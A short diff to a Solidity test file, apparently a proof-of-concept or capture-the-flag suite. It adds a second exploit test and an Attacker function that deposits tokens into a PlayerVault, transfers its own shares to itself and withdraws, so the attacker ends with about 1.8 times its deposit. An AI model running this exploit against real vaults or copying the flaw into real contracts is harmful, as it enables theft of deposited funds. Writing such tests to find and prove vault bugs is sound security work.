@@ -142,6 +142,15 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 1_200e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.double();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 1_800e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(vault);
     }
@@ -160,6 +169,14 @@ contract Attacker {
 
     constructor(PlayerVault v) {
         vault = v;
+    }
+
+    function double() external {
+        IERC20 token = vault.coin();
+        token.approve(address(vault), 1_000e18);
+        vault.deposit(1_000e18);
+        vault.send(address(this), vault.shares(address(this)));
+        vault.withdraw(vault.shares(address(this)));
     }
 
     function run() external {
